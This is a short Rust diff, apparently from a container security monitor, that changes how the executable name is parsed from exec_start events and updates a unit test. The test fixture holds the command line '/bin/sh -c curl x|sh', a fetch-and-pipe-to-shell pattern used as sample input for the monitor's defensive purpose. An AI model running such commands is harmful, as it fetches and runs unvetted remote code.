@@ -163,7 +163,7 @@ fn emit(time: Ts, f: &Fields, ctx: &RecordCtx, out: &mut Vec<Event>) {
         }
         ("container", "exec_start") => {
             let cmd = arg.unwrap_or("").trim();
-            let exe = cmd.split_whitespace().next().unwrap_or("").to_string();
+            let exe = pullwatch_model::name(cmd.split_whitespace().next().unwrap_or(""));
             EventKind::Process(ProcessExec {
                 placement: Placement::Container(container_ref(f)),
                 pid: None,
@@ -322,7 +322,7 @@ mod tests {
         let EventKind::Process(p) = e.kind else {
             panic!()
         };
-        assert_eq!(p.exe, "/bin/sh");
+        assert_eq!(&*p.exe, "/bin/sh");
         assert_eq!(p.cmdline, "/bin/sh -c curl x|sh");
     }
 
